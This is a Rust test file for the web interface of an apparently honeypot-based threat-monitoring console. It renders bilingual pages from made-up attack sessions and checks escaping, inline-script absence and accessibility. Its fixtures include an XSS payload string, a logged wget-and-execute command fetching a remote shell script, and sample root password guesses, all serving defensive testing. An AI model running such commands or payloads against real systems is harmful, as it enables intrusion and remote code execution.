//! Pages drawn from made-up facts, in both languages, empty and full. The tests of this module look for what no page
//! may hold; with `LIANFANG_GALLERY=DIR` they also write every page there, to be looked at in a browser.

use std::fmt::Write as _;
use std::path::Path;

use askama::Template;
use base::time::Zone;
use base::{AddressScope, CampaignId, FindingId, OrgId, PersonId, Realm, SensorId, SessionId, Timestamp, Tlp};
use detect::{Fact, Finding, FindingOutcome, FindingState, Group, Past, Step, StepKind, Subject, Why};
use events::sensor::{AttackClass, Factor, ValueKind};
use sensor::model::{
    Campaign, CampaignDetail, Contact, JoinKey, Observable, Session, SessionDetail, SessionEvent, TimelineBar,
};
use serde_json::json;
use text::{Lang, Words};
use uuid::Uuid;

use crate::desk;
use crate::view::frame::{DoorPage, NavItem};
use crate::view::url::Query;
use crate::view::{Body, Crumb, Frame, Head, Look, Page, Panel, Row};
use crate::web::list;

/// What an attacker might type, to see it escaped everywhere.
const HOSTILE: &str = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";

fn id(n: u128) -> Uuid {
    Uuid::from_u128(0x0199_aaaa_0000_7000_8000_0000_0000_0000 | n)
}

fn now() -> Timestamp {
    "2026-11-21T06:05:09Z".parse().unwrap()
}

fn ago(seconds: i64) -> Timestamp {
    now().plus_secs(-seconds)
}

fn look(lang: Lang, theme: &'static str, here: Query) -> Look {
    Look::new(Words::of(lang), Zone::default(), theme, now(), here).with_orgs(|org: OrgId| {
        Some(match org.0.as_u128() & 0xff {
            1 => ("國家資通安全聯防中心".into(), "National Joint Defence Centre".into()),
            2 => ("能源領域".into(), "Energy sector".into()),
            3 => ("東部電力公司".into(), "Eastern Power".into()),
            _ => ("北區水務局".into(), "Northern Water".into()),
        })
    })
}

fn org(n: u128) -> OrgId {
    OrgId(id(n))
}

fn frame(look: &Look, title: &str) -> Frame {
    let nav = &look.t.nav;
    let path = look.here.path.clone();
    let item = |href: &'static str, icon, label, gap| NavItem {
        href,
        icon,
        label,
        current: if href == "/" { path == "/" } else { path.starts_with(href) },
        count: None,
        gap,
    };
    Frame {
        t: look.t,
        theme: look.theme,
        title: title.to_owned(),
        centre: look.org_name(org(1)),
        demo: true,
        nav: vec![
            item("/", "home", nav.home, false),
            item("/attacks", "attack", nav.attacks, false),
            item("/findings", "finding", nav.findings, false),
            item("/indicators", "indicator", nav.indicators, true),
            item("/review", "review", nav.review, false),
            item("/points", "point", nav.points, false),
            item("/sensors", "sensor", nav.sensors, true),
            item("/orgs", "org", nav.orgs, false),
            item("/people", "people", nav.people, false),
            item("/audit", "audit", nav.audit, false),
        ],
        crumbs: Vec::new(),
        me: Some(("林值勤".into(), text::names::role(look.lang(), base::Role::DutyOfficer).into())),
        clock: look.when(now()),
        zone: look.zone.name().to_owned(),
        csrf: "0".repeat(64),
        q: String::new(),
        here: look.here.href(),
        toast: None,
        fragment: false,
        chart: path == "/attacks",
    }
}

/// One drawn page.
pub(crate) struct Drawn {
    pub(crate) name: String,
    pub(crate) html: String,
}

fn desk_page(look: &Look, crumbs: Vec<Crumb>, head: Head, rows: Vec<Row>) -> String {
    let f = Frame { crumbs, ..frame(look, &head.title) };
    Page { f, head, rows }.render().unwrap()
}

fn observable(n: u128, class: AttackClass, score: f64) -> Observable {
    Observable {
        kind: ValueKind::Ipv4,
        value: format!("203.0.113.{n}"),
        scope: AddressScope::Global,
        realm: Realm::Real,
        org: Some(org(3)),
        tlp: if n % 3 == 0 { Tlp::Green } else { Tlp::Amber },
        class,
        score,
        factors: factors(),
        sessions: 7 * n as u64,
        sensors: 1 + n as u64 % 5,
        orgs: 2,
        noise: n.is_multiple_of(4),
        benign: None,
        campaign: Some(CampaignId(id(77))),
        first_at: ago(90_000 + n as i64 * 311),
        last_at: ago(n as i64 * 97),
    }
}

fn factors() -> Vec<Factor> {
    [("class", 0.7, 0.7), ("recency", 0.3, 0.12), ("sensors", 3.0, 0.08), ("organisations", 2.0, 0.05)]
        .map(|(name, input, part)| Factor { name: name.into(), input, part })
        .to_vec()
}

fn session(n: u128, class: AttackClass) -> Session {
    Session {
        id: SessionId(id(1_000 + n)),
        org: org(3),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        sensor: SensorId(id(50)),
        sensor_name: "誘捕-花蓮-01".into(),
        src_ip: format!("203.0.113.{n}"),
        scope: AddressScope::Global,
        protocol: "ssh".into(),
        dst_port: 22,
        opened_at: ago(600 + n as i64 * 60),
        last_at: ago(500 + n as i64 * 60),
        closed_at: (n % 2 == 0).then(|| ago(500 + n as i64 * 60)),
        class,
        events: 24,
        attempts: 12,
        commands: 3,
        client: Some("SSH-2.0-libssh2_1.10.0".into()),
        hassh: Some("ec7378c1a92f5a8dde7e8b7a1ddf33d1".into()),
        campaign: Some(CampaignId(id(77))),
    }
}

fn session_detail(hostile: bool) -> SessionDetail {
    let command = if hostile { HOSTILE } else { "cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh; ./x.sh" };
    let events = [
        ("conn.open", json!({"src_ip": "203.0.113.7", "src_port": 51_022})),
        (
            "proto.fingerprint",
            json!({"version": "SSH-2.0-libssh2_1.10.0", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"}),
        ),
        ("auth.attempt", json!({"user": "root", "password": "123456", "method": "password", "success": false})),
        ("auth.attempt", json!({"user": "root", "password": "admin", "method": "password", "success": false})),
        ("auth.attempt", json!({"user": "root", "password": "P@ssw0rd", "method": "password", "success": true})),
        ("cmd.input", json!({"line": "uname -a; id"})),
        ("cmd.input", json!({"line": command})),
        ("file.ref", json!({"url": "http://198.51.100.9/x.sh"})),
        ("conn.close", json!({"duration_ms": 41_200})),
    ];
    let events = events.into_iter().enumerate().map(|(i, (kind, body))| SessionEvent {
        n: i as u64 + 1,
        at: ago(600).plus_secs(4 * i as i64),
        kind: kind.into(),
        body: body.to_string(),
    });
    SessionDetail {
        session: session(7, AttackClass::Download),
        reason: sensor::classify::Reason {
            rule: "file".into(),
            facts: vec![
                ("files".into(), "0".into()),
                ("urls".into(), "1".into()),
                ("first".into(), "http://198.51.100.9/x.sh".into()),
            ],
        },
        foreign_key: "s-1".into(),
        users: vec!["root".into()],
        passwords: vec!["123456".into(), "admin".into(), if hostile { HOSTILE.into() } else { "P@ssw0rd".into() }],
        login: true,
        command_lines: vec![command.into()],
        urls: vec!["http://198.51.100.9/x.sh".into()],
        hashes: Vec::new(),
        ssh_keys: Vec::new(),
        forwards: Vec::new(),
        events: events.collect(),
        more_events: false,
    }
}

fn finding(n: u128, severity: u8, state: FindingState) -> Finding {
    let class = ["download", "command_execution", "credential_guessing", "scan"][n as usize % 4];
    Finding {
        id: FindingId(id(2_000 + n)),
        org: org(3 + n % 2),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        scope: AddressScope::Global,
        rule: format!("sensor.{class}"),
        severity,
        subject: Subject { kind: "ipv4".into(), value: format!("203.0.113.{n}") },
        params: json!({}),
        why: Why {
            facts: [("class", class), ("sessions", "14"), ("sensors", "3")]
                .map(|(name, value)| Fact { name: name.into(), value: value.into() })
                .to_vec(),
            factors: factors(),
            score: Some(0.87),
            sessions: (0..3).map(|i| SessionId(id(1_000 + i))).collect(),
        },
        count: 3 * n as u64 + 1,
        first_at: ago(7_200 + n as i64 * 60),
        last_at: ago(60 * n as i64),
        state,
        owner: (state == FindingState::Taken).then(|| PersonId(id(9))),
        outcome: (state == FindingState::Resolved).then_some(FindingOutcome::TruePositive),
        reason: (state == FindingState::Resolved).then(|| HOSTILE.to_owned()),
        silence: None,
        campaign: Some(CampaignId(id(77))),
        trail: vec![Step {
            at: ago(300),
            by: Some(PersonId(id(9))),
            kind: StepKind::Taken,
            from: FindingState::New,
            from_owner: None,
            outcome: None,
            reason: None,
            undone: false,
        }],
        version: 2,
    }
}

fn bars() -> Vec<TimelineBar> {
    let mut bars = Vec::new();
    for hour in 0..24_i64 {
        for (i, class) in AttackClass::ALL.into_iter().enumerate() {
            let n = (hour * 7 + i as i64 * 13) % 17;
            if i % 3 != 0 && n > 3 {
                let at = Timestamp::EPOCH.plus_secs((ago(hour * 3_600).as_secs() / 3_600) * 3_600);
                bars.push(TimelineBar { at, class, sessions: (n * (i as i64 + 1)) as u64, events: 50 });
            }
        }
    }
    bars
}

fn attacks(look: &Look, full: bool) -> Vec<Row> {
    let classes =
        [AttackClass::Download, AttackClass::CommandExecution, AttackClass::CredentialSpray, AttackClass::Scan];
    let rows = if full {
        (1..30).map(|n| observable(n, classes[n as usize % 4], 0.97 - n as f64 * 0.03)).collect()
    } else {
        Vec::new()
    };
    let loaded = list::Loaded::of(rows, full.then(|| "next".to_owned()));
    let bars = if full { bars() } else { Vec::new() };
    desk::attack::draw(look, &bars, &loaded)
}

fn queue(look: &Look, full: bool) -> Row {
    let rows: Vec<Finding> = if full {
        (0..14)
            .map(|n| finding(n, 4 - (n % 4) as u8, if n % 5 == 2 { FindingState::Taken } else { FindingState::New }))
            .collect()
    } else {
        Vec::new()
    };
    let chosen = rows.first().cloned();
    let groups: Vec<Group> = if full {
        [
            ("sensor.download", 4, 4),
            ("sensor.command_execution", 5, 3),
            ("sensor.credential_guessing", 3, 2),
            ("edge.drift", 2, 3),
        ]
        .map(|(rule, open, severity)| Group {
            rule: rule.into(),
            org: org(3),
            open,
            new: open,
            severity,
            oldest: ago(7_000),
            latest: ago(60),
        })
        .to_vec()
    } else {
        Vec::new()
    };
    let loaded = list::Loaded::of(rows, None);
    let past = Past { times: 2, last_outcome: Some(FindingOutcome::TruePositive), last_at: Some(ago(86_400)) };
    let desk = desk::finding::Desk {
        loaded: &loaded,
        groups: &groups,
        chosen: chosen.as_ref(),
        past,
        owner: None,
        token: "t",
        acts: true,
    };
    desk::finding::draw_queue(look, &desk)
}

fn campaign() -> (CampaignDetail, Vec<Session>) {
    let detail = CampaignDetail {
        campaign: Campaign {
            id: CampaignId(id(0x77)),
            realm: Realm::Real,
            org: org(3),
            tlp: Tlp::Amber,
            sessions: 214,
            sources: 31,
            sensors: 3,
            orgs: 2,
            class: AttackClass::Download,
            joined_by: Some("credentials".into()),
            targeted: 4.2,
            noise: false,
            first_at: ago(86_400),
            last_at: ago(120),
        },
        keys: vec![
            JoinKey { kind: "credentials".into(), label: "root/123456 +11".into(), sessions: 180 },
            JoinKey { kind: "commands".into(), label: HOSTILE.into(), sessions: 44 },
        ],
        contacts: (1..6)
            .map(|n| Contact {
                src_ip: format!("203.0.113.{n}"),
                sensor: SensorId(id(50)),
                org: org(3),
                sessions: 40 - n as u64,
                first_at: ago(80_000),
                last_at: ago(n * 60),
            })
            .collect(),
    };
    (detail, (1..8).map(|n| session(n, AttackClass::Download)).collect())
}

/// Every page in one language and theme.
pub(crate) fn pages(lang: Lang, theme: &'static str) -> Vec<Drawn> {
    let t = Words::of(lang);
    let mut out = Vec::new();
    let mut add = |name: &str, html: String| out.push(Drawn { name: name.to_owned(), html });
    let at = |path: &str| look(lang, theme, Query::at(path));
    for full in [true, false] {
        let tail = if full { "" } else { "-empty" };
        let l = at("/attacks");
        add(&format!("attacks{tail}"), desk_page(&l, Vec::new(), Head::new(t.attack.title, ""), attacks(&l, full)));
        let l = at("/findings");
        let head = Head::new(t.work.title, t.work.lead);
        add(&format!("findings{tail}"), desk_page(&l, Vec::new(), head, vec![queue(&l, full)]));
    }
    let l = at("/sessions/1");
    for hostile in [false, true] {
        let (head, rows) = desk::session::draw(&l, &session_detail(hostile));
        let crumbs = vec![Crumb::new("/attacks", t.nav.attacks), Crumb::new("/sessions", t.nav.sessions)];
        add(if hostile { "session-hostile" } else { "session" }, desk_page(&l, crumbs, head, rows));
    }
    let (detail, sessions) = campaign();
    let (head, rows) = desk::campaign::draw(&at("/campaigns/1"), &detail, &sessions);
    add("campaign", desk_page(&at("/campaigns/1"), vec![Crumb::new("/attacks", t.nav.attacks)], head, rows));
    let f = finding(1, 3, FindingState::Resolved);
    let people = vec![Some("林值勤".to_owned())];
    let (head, rows) = desk::finding::draw(&at("/findings/1"), &f, Past::default(), Some("林值勤"), &people, Some("t"));
    add("finding", desk_page(&at("/findings/1"), vec![Crumb::new("/findings", t.nav.findings)], head, rows));
    let l = at("/keys");
    let keys = vec![Row::Full(Panel::new("keys-page", t.keys.title, vec![Body::Keys { t }]))];
    add("keys", desk_page(&l, Vec::new(), Head::new(t.keys.title, t.keys.lead), keys));
    out
}

/// A page of the door, for the gallery.
pub(crate) fn door(look: &Look, head: Head, steps: Option<(usize, usize)>, body: Vec<Body>) -> String {
    let f = Frame { me: None, nav: Vec::new(), ..frame(look, &head.title) };
    DoorPage { f, head, steps, body, wide: steps.is_some() }.render().unwrap()
}

fn every(check: impl Fn(&Drawn, &'static str)) {
    for lang in Lang::ALL {
        for theme in ["auto", "light", "dark"] {
            for page in pages(lang, theme) {
                check(&page, lang.word());
            }
        }
    }
}

#[test]
fn no_page_holds_anything_inline() {
    every(|page, lang| {
        let html = page.html.to_ascii_lowercase();
        for never in [
            " style=",
            "<style",
            " onclick=",
            " onload=",
            " onsubmit=",
            "javascript:",
            "hx-on",
            "http://www.w3",
            "data:",
        ] {
            assert!(!html.contains(never), "{lang} {} holds {never}", page.name);
        }
        for script in html.split("<script").skip(1) {
            assert!(script.starts_with(" src=\"/assets/"), "{lang} {}: an inline script", page.name);
        }
    });
}

#[test]
fn hostile_text_is_escaped() {
    let mut seen = 0;
    for page in pages(Lang::ZhTw, "auto") {
        assert!(!page.html.contains("<script>alert"), "{}", page.name);
        assert!(!page.html.contains("<img src=x"), "{}", page.name);
        seen += page.html.matches("&#60;script&#62;alert(1)").count();
    }
    assert!(seen >= 3, "the hostile text must be on several pages, escaped: {seen}");
}

#[test]
fn every_page_has_its_landmarks() {
    every(|page, lang| {
        let html = &page.html;
        let place = format!("{lang} {}", page.name);
        assert!(html.contains(&format!("<html lang=\"{}\"", lang.parse::<Lang>().unwrap().html())), "{place}");
        assert_eq!(html.matches("<h1").count(), 1, "{place}");
        assert_eq!(html.matches("<main").count(), 1, "{place}");
        assert!(html.contains("class=\"skip\" href=\"#main\""), "{place}");
        assert_eq!(html.matches("<table").count(), html.matches("<caption").count(), "{place}");
        for form in html.split("<form method=\"post\"").skip(1) {
            assert!(
                form.split("</form>").next().unwrap().contains("name=\"csrf\""),
                "{place}: a form without its token"
            );
        }
    });
}

/// Every id once, and every `for`, `aria-labelledby` and `aria-describedby` leads somewhere.
#[test]
fn ids_are_unique_and_found() {
    every(|page, lang| {
        let values = |name: &str| -> Vec<&str> {
            page.html.split(&format!(" {name}=\"")).skip(1).filter_map(|rest| rest.split('"').next()).collect()
        };
        let mut ids = values("id");
        let count = ids.len();
        ids.sort_unstable();
        let doubled: Vec<_> = ids.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| pair[0]).collect();
        assert_eq!(doubled, Vec::<&str>::new(), "{lang} {} of {count}", page.name);
        for name in ["for", "aria-labelledby", "aria-describedby"] {
            for target in values(name) {
                assert!(ids.binary_search(&target).is_ok(), "{lang} {}: {name} {target} leads nowhere", page.name);
            }
        }
    });
}

#[test]
fn the_english_pages_hold_no_chinese_of_ours() {
    // Names of stored things stay as people wrote them.
    let stored = ["誘捕-花蓮-01", "林值勤", "中文"];
    for page in pages(Lang::En, "auto") {
        let mut html = page.html;
        for name in stored {
            html = html.replace(name, "");
        }
        let chinese: String = html.chars().filter(|c| text::lint::is_cjk(*c)).take(40).collect();
        assert_eq!(chinese, "", "{}", page.name);
    }
}

/// Writes the gallery where `LIANFANG_GALLERY` says.
#[test]
fn gallery() {
    let mut index = String::new();
    let all: Vec<(String, String)> = Lang::ALL
        .into_iter()
        .flat_map(|lang| ["light", "dark"].map(|theme| (lang, theme)))
        .flat_map(|(lang, theme)| pages(lang, theme).into_iter().map(move |page| (lang, theme, page)))
        .map(|(lang, theme, page)| (format!("{}-{}-{theme}.html", page.name, lang.word()), page.html))
        .collect();
    assert!(all.len() > 20);
    let Some(dir) = std::env::var_os("LIANFANG_GALLERY") else { return };
    let dir = Path::new(&dir);
    std::fs::create_dir_all(dir.join("assets")).unwrap();
    for asset in assets::ALL {
        std::fs::write(dir.join(asset.url.trim_start_matches('/')), asset.bytes).unwrap();
    }
    for (name, html) in all {
        writeln!(index, "<a href=\"{name}\">{name}</a><br>").unwrap();
        std::fs::write(dir.join(name), html).unwrap();
    }
    std::fs::write(dir.join("index.html"), index).unwrap();
}
